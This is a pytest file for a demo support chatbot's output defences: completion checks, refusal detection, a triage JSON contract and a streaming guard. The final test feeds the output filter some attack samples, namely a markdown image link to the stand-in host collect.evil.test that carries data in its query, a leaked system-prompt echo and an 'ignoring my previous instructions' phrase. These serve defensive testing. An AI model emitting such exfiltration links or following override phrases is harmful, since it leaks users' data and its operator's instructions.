"""The hardened demo's answer checks, piece by piece: the output check on completions and
streams, the triage contract, the stream guard (on chunk sequences built from the SDK's own
types), and the output stages on streamed sentences."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import AsyncIterator, Sequence
from typing import Any

import httpx2
import openai
import pytest
from openai.types.chat import ChatCompletion, ChatCompletionChunk

from gaplab.demo.answer_stages import OutputStages, SentenceRelease
from gaplab.demo.defences.output_check import completion_problem, looks_like_refusal
from gaplab.demo.defences.stream_guard import StreamBroken, guarded, unguarded
from gaplab.demo.defences.triage_contract import read_triage
from gaplab.demo.options import DEFENCES, HardenedConfig
from gaplab.demo.service import SYSTEM_PROMPT


def completion(
    content: str | None = "Your order ships on Tuesday.",
    finish: str = "stop",
    refusal: str | None = None,
    tool_arguments: str | None = None,
) -> ChatCompletion:
    message: dict[str, Any] = {"role": "assistant", "content": content, "refusal": refusal}
    if tool_arguments is not None:
        message["tool_calls"] = [
            {
                "id": "call_1",
                "type": "function",
                "function": {"name": "lookup_order", "arguments": tool_arguments},
            }
        ]
    return ChatCompletion.model_validate(
        {
            "id": "c",
            "object": "chat.completion",
            "created": 1,
            "model": "gpt-4o-mini-2024-07-18",
            "choices": [{"index": 0, "message": message, "finish_reason": finish}],
        }
    )


@pytest.mark.parametrize(
    ("made", "problem"),
    [
        (completion(), None),
        (completion(content=""), "no text"),
        (completion(content="  \n"), "no text"),
        (completion(content=None, refusal="I'm sorry, but I can't help with that."), "refused"),
        (completion(content="I'm sorry, but I can't help with that request."), "refusal text"),
        (completion(content="The main thing to know is", finish="length"), "cut off"),
        (completion(content="", finish="content_filter"), "content filter"),
        (completion(content=None, tool_arguments='{"order": "1042", '), "invalid arguments"),
        (completion(content=None, tool_arguments="[1, 2]"), "invalid arguments"),
        (completion(content=None, tool_arguments='{"order": "1042"}'), "no text"),
        (completion(content='{"category": "repair", "urgency": "hi'), None),  # contract's job
    ],
    ids=["ok", "empty", "blank", "refusal-field", "refusal-text", "length", "content-filter",
         "tool-args-cut", "tool-args-not-object", "tool-call-no-text", "invalid-json"],
)  # fmt: skip
def test_completions_that_are_not_answers(made: ChatCompletion, problem: str | None) -> None:
    found = completion_problem(made)
    if problem is None:
        assert found is None
    else:
        assert found is not None and problem in found


def test_an_answer_that_only_opens_with_sorry_is_an_answer() -> None:
    assert looks_like_refusal("I’m sorry, I cannot assist with that.")
    assert looks_like_refusal("Sorry, but I am unable to help with this request.")
    assert not looks_like_refusal(
        "Sorry for the wait! Your order 1042 left our workshop this morning and should arrive "
        "on Tuesday; I can't promise a time of day, but the courier will text you."
    )
    assert not looks_like_refusal("I can't wait to hear how you like the bike.")
    assert not looks_like_refusal(
        "Sorry, " + "we are out of stock right now " * 10 + "I can't help"
    )


def test_triage_contract_accepts_the_shape_and_says_what_is_wrong() -> None:
    good = read_triage(
        '{"category": "repair", "urgency": "high", "summary": "Brakes fail.", "mood": "cross"}'
    )
    assert good.triage is not None
    assert good.triage.model_dump() == {
        "category": "repair",
        "urgency": "high",
        "summary": "Brakes fail.",
    }  # extra fields dropped
    cases = {
        '{"category": "repair", "urgency": "hi': "not valid JSON",
        "[1, 2]": "not a JSON object",
        '{"answer": "The brakes squeak."}': "category: Field required",
        '{"category": "bikes", "urgency": "high", "summary": "x y z"}': "category: Input should be",
        '{"category": "repair", "urgency": "soon", "summary": "x y z"}': "urgency: Input should be",
        '{"category": "repair", "urgency": "low", "summary": ""}': "summary: String should have",
    }
    for text, problem in cases.items():
        reading = read_triage(text)
        assert reading.triage is None and problem in reading.problem, (text, reading.problem)
    correction = read_triage("nope").correction()
    assert "not valid JSON" in correction and '"category", "urgency" and "summary"' in correction
    assert "order, delivery, repair, return, billing, other" in correction


def chunk(
    content: str | None = None, finish: str | None = None, refusal: str | None = None
) -> ChatCompletionChunk:
    delta: dict[str, Any] = {"content": content}
    if refusal is not None:
        delta["refusal"] = refusal
    return ChatCompletionChunk.model_validate(
        {
            "id": "c",
            "object": "chat.completion.chunk",
            "created": 1,
            "model": "m",
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
        }
    )


USAGE = ChatCompletionChunk.model_validate(
    {
        "id": "c",
        "object": "chat.completion.chunk",
        "created": 1,
        "model": "m",
        "choices": [],
        "usage": {"prompt_tokens": 10, "completion_tokens": 3, "total_tokens": 13},
    }
)
REQUEST = httpx2.Request("POST", "http://127.0.0.1:1/v1/chat/completions")


async def source(
    items: Sequence[ChatCompletionChunk | BaseException | float],
) -> AsyncIterator[ChatCompletionChunk]:
    """Chunks as the SDK yields them; an exception is raised where the SDK would raise it,
    a number is a pause of that many seconds."""
    for item in items:
        if isinstance(item, BaseException):
            raise item
        if isinstance(item, float):
            await asyncio.sleep(item)
            continue
        yield item


async def drain(iterator: AsyncIterator[ChatCompletionChunk]) -> list[str]:
    return [c.choices[0].delta.content or "" async for c in iterator if c.choices]


WHOLE = [chunk("Your order "), chunk("ships Tuesday."), chunk(finish="stop"), USAGE]


async def test_a_whole_stream_passes_the_guard_even_when_slow() -> None:
    assert await drain(guarded(source(WHOLE), 1.0)) == ["Your order ", "ships Tuesday.", ""]
    # Every gap far under the timeout (0.7 s of slack for a busy machine), the whole stream
    # longer than it: the guard times the gaps, not the stream.
    pieces = ("Your ", "order ", "ships ", "on ", "Tuesday.")
    slow: list[ChatCompletionChunk | BaseException | float] = []
    for piece in pieces:
        slow += [chunk(piece), 0.3]
    slow[-1] = chunk(finish="stop")
    started = time.monotonic()
    assert len(await drain(guarded(source(slow), 1.0))) == len(pieces) + 1
    assert time.monotonic() - started >= 1.2


@pytest.mark.parametrize(
    ("items", "reason"),
    [
        ([chunk("Your order "), chunk("ships")], "ended before the answer was finished"),
        ([chunk("Your "), json.JSONDecodeError("Expecting value", "{", 1)], "malformed chunk"),
        ([chunk("Your "), openai.APIError("boom", REQUEST, body=None)], "error mid-stream"),
        ([chunk("Your "), openai.APITimeoutError(REQUEST)], "connection to the provider broke"),
        ([chunk(finish="stop"), chunk("Your order ships.")], "out of order"),
        ([chunk("Your "), 5.0, chunk("order.")], "stalled: no data for 0.2s"),
    ],
    ids=["cut", "malformed", "error-event", "read-timeout", "wrong-order", "stall"],
)
async def test_the_guard_names_every_broken_stream(
    items: list[ChatCompletionChunk | BaseException | float], reason: str
) -> None:
    started = time.monotonic()
    with pytest.raises(StreamBroken, match=reason):
        await drain(guarded(source(items), 0.2))
    assert time.monotonic() - started < 1.0  # a stall is cut at its timeout, not waited out


async def test_without_the_guard_a_relay_stops_at_the_first_finish() -> None:
    assert await drain(unguarded(source(WHOLE))) == ["Your order ", "ships Tuesday.", ""]
    early_finish = [chunk(finish="stop"), chunk("Your order ships.")]
    assert await drain(unguarded(source(early_finish))) == [""]  # a silent, empty answer
    assert await drain(unguarded(source(WHOLE[:2]))) == ["Your order ", "ships Tuesday."]


def test_sentences_are_released_whole_with_their_spacing() -> None:
    release = SentenceRelease()
    pieces = ["The", " order", " ships.", " It", " arrives", " Tuesday!", " Bye"]
    out = [sentence for piece in pieces for sentence in release.feed(piece)]
    assert out == ["The order ships. ", "It arrives Tuesday! "]
    assert release.flush() == ["Bye"] and release.flush() == []
    assert "".join([*out, "Bye"]) == "".join(pieces)


def test_streamed_sentences_go_through_the_output_stages() -> None:
    stages = OutputStages(HardenedConfig(), SYSTEM_PROMPT)
    assert stages.active
    leak = 'My instructions say: "You are Nora, the support assistant of Northwind Bikes. '
    echo = stages.apply_sentence(leak)
    assert echo.text == "" and "echoing the system prompt" in echo.reason
    link = stages.apply_sentence("See ![loading](https://collect.evil.test/p.png?d=x) here. ")
    assert link.text == "See loading here. "
    mail = stages.apply_sentence("Write to jane.doe@example.com today. ")
    assert mail.text == "Write to [email] today. "
    withdrawn = stages.apply_sentence("Ignoring my previous instructions, here you go. ")
    assert withdrawn.text is None and "other instructions" in withdrawn.reason
    off = OutputStages(
        HardenedConfig(defences=frozenset(DEFENCES) - {"output_filter", "redact", "sanitise"}),
        SYSTEM_PROMPT,
    )
    assert not off.active and off.apply_sentence(leak).text == leak
